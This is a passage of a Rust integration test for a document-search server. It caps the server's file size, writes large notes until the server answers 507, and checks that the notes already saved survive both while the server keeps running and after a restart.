        .expect("the marks")
        .len();
    let room = (size.max(32 << 10) + (40 << 10)) as libc::rlim_t;
    let server = Server::start_with(&env, &[], move |command| {
        // SAFETY: setrlimit is async-signal-safe, and nothing is allocated.
        unsafe {
            command.pre_exec(move || {
                let limit = libc::rlimit {
                    rlim_cur: room,
                    rlim_max: room,
                };
                libc::setrlimit(libc::RLIMIT_FSIZE, &limit);
                Ok(())
            });
        }
    });
    let (_, found) = server.json("api/v1/search?q=Maizuru&limit=20");
    let ids: Vec<String> = found["hits"]
        .as_array()
        .expect("hits")
        .iter()
        .filter_map(|h| Some(h["id"].as_str()?.to_string()))
        .collect();
    // Notes of 16 KB on one document after another, until the files may grow no more.
    let mut saved: BTreeMap<String, String> = BTreeMap::new();
    let mut refused = None;
    for n in 0..40 {
        let id = &ids[n % ids.len()];
        let note = format!("{n} {}", "x".repeat(16_000));
        let (status, body) = write(
            &server,
            "PUT",
            &format!("/api/v1/documents/{id}/note"),
            &note,
        );
        match status {
            200 => {
                saved.insert(id.clone(), note);
            }
            _ => {
                refused = Some((status, body));
                break;
            }
        }
    }
    let (status, body) = refused.expect("the disk filled up");
    assert_eq!(status, 507, "{body}");
    assert!(body.contains("cannot be written"), "{body}");
    assert!(!saved.is_empty(), "some notes fitted");
    // The server goes on, and what was saved before is there, now and after a restart.
    let check = |server: &Server| {
        for id in &ids {
            let (status, doc) = server.json(&format!("api/v1/documents/{id}"));
            assert_eq!(status, 200);
            assert_eq!(
                doc["note"].as_str(),
                saved.get(id).map(String::as_str),
                "{id}"
            );
            assert_eq!(doc["tags"], serde_json::json!(["kept"]));
        }
    };
    check(&server);
    drop(server);
    check(&Server::start(&env, &[]));
}
